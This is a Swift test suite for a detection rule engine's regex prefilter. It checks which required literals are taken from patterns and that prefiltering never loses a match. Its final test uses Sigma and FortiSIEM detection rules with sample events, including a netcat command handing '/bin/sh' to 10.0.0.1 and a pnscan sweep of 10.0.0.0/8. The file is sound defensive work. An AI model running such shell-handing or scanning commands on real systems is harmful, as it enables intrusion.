import ExecEvents
import Testing

@testable import RuleEngine

/// A regex runs only on texts holding one of the literals its pattern requires; these tests show
/// which literals are read from which patterns, and that no match is lost by checking them first.
@Suite struct RegexPrefilterTests {
    /// The literals required by a pattern, as text (nil: none, the regex always runs).
    private func literals(_ pattern: String, canonicalEquivalence: Bool = false) -> [String]? {
        RequiredLiterals.of(pattern: pattern, canonicalEquivalence: canonicalEquivalence)?.bytes.map {
            String(decoding: $0, as: UTF8.self)
        }
    }

    @Test func literalRunsOutsideGroupsAndQuantifiersAreRequired() {
        #expect(literals(#"\s-O\s"#) == ["-O"])
        #expect(literals(#"https://[0-9]{1,3}\.[0-9]{1,3}"#) == ["https://"])
        #expect(literals(#"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]"#) == ["."])
        #expect(literals("-D") == ["-D"])
        // Escaped metacharacters are text; the longest run wins.
        #expect(literals(#"x\.y\/z\-\*"#) == ["x.y/z-*"])
        #expect(literals(#"\(a\)bcd"#) == ["(a)bcd"])
        // An optional or repeated atom is not part of the run around it.
        #expect(literals("abc?def") == ["def"])
        #expect(literals("abcd*e") == ["abc"])
        #expect(literals("ab{0,2}cde") == ["cde"])
        #expect(literals("ab+cde") == ["cde"])
        #expect(literals("(?:abc)?xy") == ["xy"])
        #expect(literals("(abc)+x") == ["abc"])
        // Classes, dots, anchors and lookarounds require nothing, whatever they hold.
        #expect(literals("[)|(]abc") == ["abc"])
        #expect(literals("[]|x]abc") == ["abc"])
        #expect(literals("[[:alpha:]|]abc") == ["abc"])
        #expect(literals("^ab.cd$") == ["ab"])
        #expect(literals("(?!evil)good") == ["good"])
        #expect(literals("(?<!ab)cd") == ["cd"])
        #expect(literals("(?=long)x") == ["x"])
        #expect(literals("(.){200,}") == nil)
        #expect(literals(#"\d+"#) == nil)
    }

    @Test func alternativesAreRequiredOnlyWhenEveryBranchHasOne() {
        // The corpus' pnscan rule: `-W` or `-R`.
        #expect(literals(#"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#) == ["-R", "-W"])
        #expect(literals("foo|bar") == ["bar", "foo"])
        #expect(literals("a(bc|de)f") == ["abcf", "adef"])
        #expect(literals("(?:x|yz)(?:1|2)") == ["x1", "x2", "yz1", "yz2"])
        // A literal inside an alternation is not required alone; a branch without one frees all.
        #expect(literals(#"foo|\d+"#) == nil)
        #expect(literals("x(abc|[0-9])") == ["x"])
        #expect(literals("(abc|)d") == ["abcd", "d"])
        #expect(literals("foo|") == nil)
        #expect(literals(#"(?:\s-[^-\s]{0,20}i|\s--inode\s)"#) == ["-", "--inode"])
    }

    @Test func caseFlagsFoldEveryLiteral() {
        let folded = RequiredLiterals.of(pattern: "(?i)EvIl", canonicalEquivalence: false)
        #expect(folded?.bytes == [Array("evil".utf8)])
        #expect(folded?.needles.first?.cased == false)
        // A flag in the middle still folds the literal before it (conservatively), and a cased
        // pattern stays cased.
        #expect(literals("ABC(?i)d") == ["abc"])
        #expect(literals("ab(?i:CD)") == ["abcd"])
        #expect(RequiredLiterals.of(pattern: "EvIl", canonicalEquivalence: false)?.needles.first?.cased == true)
        // Ignoring case, `k` and `s` also match the Kelvin sign and the long s: never required.
        #expect(literals("(?i)kill") == ["ill"])
        #expect(literals("(?i)ssh") == ["h"])
    }

    @Test func canonicalEquivalenceLeavesOutCharactersWithNonASCIIEquivalents() {
        #expect(literals("OK;go", canonicalEquivalence: true) == ["go"])
        #expect(literals("OK;go", canonicalEquivalence: false) == ["OK;go"])
    }

    @Test func constructsThatChangeTheRestLeaveNoPrefilter() {
        #expect(literals(#"\Qa.b\E"#) == nil)
        #expect(literals("(?x) a b c") == nil)
        #expect(literals(#"(ab)\1cd"#) == nil)
        #expect(literals(#"\x41BC"#) == nil)
        #expect(literals(#"\u{41}BC"#) == nil)
        #expect(literals(#"\p{L}abc"#) == nil)
        #expect(literals("a{ 2 }bc") == nil)
        #expect(literals("(?#note)abc") == nil)
        #expect(literals("é abc") == [" abc"])  // a non-ASCII character is not relied on
    }

    /// Each pattern finds exactly what the regex alone finds, on texts made to hit the edges.
    @Test func thePrefilterNeverChangesWhatARegexFinds() throws {
        let patterns: [(String, ignoreCase: Bool, grapheme: Bool)] = [
            (#"-(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')"#, false, false),
            (#"\s-O\s"#, false, false),
            ("foo|bar", false, false),
            ("a(bc|de)f", false, false),
            ("kill", true, false),
            ("ssh", true, false),
            ("EvIl", true, false),
            ("ABC(?i)d", false, false),
            ("OK", false, true),
            (";x", false, true),
            ("abc?de", false, false),
            (#"x\.y"#, false, false),
        ]
        let texts = [
            "", "-W 41 42 ", "x -R'aa bb'", "-w 41 42 ", "bar", "FOO", "abcf", "adef", "af",
            "\u{212A}ILL", "\u{017F}sh", "EVIL", "evil", "abcD", "ABCd", "O\u{212A}", "\u{037E}x", "abde",
            "abcde", "xay", "x.y", " -O ", " -o ",
        ]
        for (source, ignoreCase, grapheme) in patterns {
            var regex = try Regex(source)
            if !grapheme { regex = regex.matchingSemantics(.unicodeScalar) }
            if ignoreCase { regex = regex.ignoresCase() }
            let shown = ignoreCase ? "(?i)" + source : source
            let compiled = CompiledRegex(pattern: shown, regex: regex, canonicalEquivalence: grapheme)
            #expect(compiled.requiredLiterals != nil, "\(source) has a prefilter")
            for text in texts {
                #expect(compiled.isFound(in: text) == text.contains(regex), "\(source) on \(text)")
            }
        }
    }

    @Test func sigmaRegexesStillMatchThroughTheirPrefilter() throws {
        let pnscan = try sigmaRule(
            #"""
                sel:
                    CommandLine|re: -(W|R)\s?(\s|"|')([0-9a-fA-F]{2}\s?){2,20}(\s|"|')
                condition: sel
            """#
        )
        #expect(pnscan.filter.matches(processEvent(commandLine: ["pnscan", "-R", "'41 42 43'", "10.0.0.0/8"])))
        #expect(!pnscan.filter.matches(processEvent(commandLine: ["pnscan", "-r", "'41 42 43'", "10.0.0.0/8"])))
        let filler = String(repeating: "y", count: 40_000)
        #expect(pnscan.filter.matches(processEvent(commandLine: ["echo", filler, "-W", "'41 42'"])))
        #expect(!pnscan.filter.matches(processEvent(commandLine: ["echo", filler])))
        let folded = try sigmaRule("    sel:\n        CommandLine|re|i: 'SH -C'\n    condition: sel")
        #expect(folded.filter.matches(processEvent(commandLine: ["env", "sh -c id"])))
        #expect(!folded.filter.matches(processEvent(commandLine: ["env", "sh -x id"])))
        let fortiSIEM = try #require(filter(#"swParam REGEXP "-(e|c) /bin/sh""#))
        #expect(fortiSIEM.matches(processEvent(commandLine: ["nc", "-c", "/bin/sh", "10.0.0.1"])))
        #expect(!fortiSIEM.matches(processEvent(commandLine: ["nc", "-x", "/bin/sh", "10.0.0.1"])))
    }
}
